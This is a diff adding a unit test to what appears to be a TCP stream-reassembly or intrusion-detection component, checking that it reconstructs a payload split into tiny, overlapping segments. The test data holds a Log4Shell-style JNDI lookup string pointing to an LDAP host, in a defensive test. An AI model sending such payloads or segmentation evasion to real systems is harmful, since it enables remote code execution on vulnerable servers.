@@ -59,6 +59,47 @@ static void copy_that_differs_is_judged_too(void **state)
     assert_int_equal(counters[COUNT_STREAM_ASIDE_BYTES], 10);
 }
 
+/* However small the pieces behind it, and whatever shows that no more of them come. */
+static void version_that_goes_on_in_small_pieces(void **state)
+{
+    enum { ANSWERED, ENDED, CROWDED_OUT, FOLLOWED, N_WAYS };
+    static const char rest[] = "ldap://192.0.2.1:1389/a}";
+
+    (void)state;
+    for (unsigned way = 0; way < N_WAYS; way++)
+        for (size_t size = 1; size < 8; size++) {
+            struct talk t = talk_new(4), other = talk_new(4);
+
+            talk_clear();
+            talk_handshake(&t);
+            talk_say(&t, 0, "GET /");
+            send(&t, 0, ACK, t.seq[0], t.seq[1], "harmless");
+            send(&t, 0, ACK, t.seq[0], t.seq[1], "/${jndi:");
+            t.seq[0] += 8;
+            for (size_t at = 0; at < sizeof rest - 1; at += size) {
+                char piece[8] = {0};
+
+                memcpy(piece, rest + at, at + size < sizeof rest ? size : sizeof rest - 1 - at);
+                talk_say(&t, 0, piece);
+            }
+            if (way == ANSWERED)
+                talk_say(&t, 1, "ok");
+            else if (way == ENDED)
+                talk_fin(&t, 0);
+            if (way == CROWDED_OUT)
+                talk_handshake(&other);
+            for (unsigned i = 0; way == CROWDED_OUT && i < 200; i++) {
+                talk_say(&other, 0, "one version");
+                send(&other, 0, ACK, other.seq[0] - 11, other.seq[1], "and another");
+                talk_say(&other, 0, "between");
+            }
+            for (unsigned i = 0; way == FOLLOWED && i < 600; i++)
+                talk_say(&t, 0, "x");
+            assert_true(talk_other_has(talk_heard(0), 0, "/${jndi:ldap://192.0.2.1:1389/a}"));
+            assert_true(talk_heard(0)->side[0].n_others <= 1 + 16);
+        }
+}
+
 static void copy_that_is_the_same_is_nothing(void **state)
 {
     struct talk t = talk_new(4);
@@ -767,6 +808,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         TEST(copy_that_differs_is_judged_too),
+        TEST(version_that_goes_on_in_small_pieces),
         TEST(copy_that_is_the_same_is_nothing),
         TEST(copy_cut_anywhere),
         TEST(copy_of_what_is_forgotten),
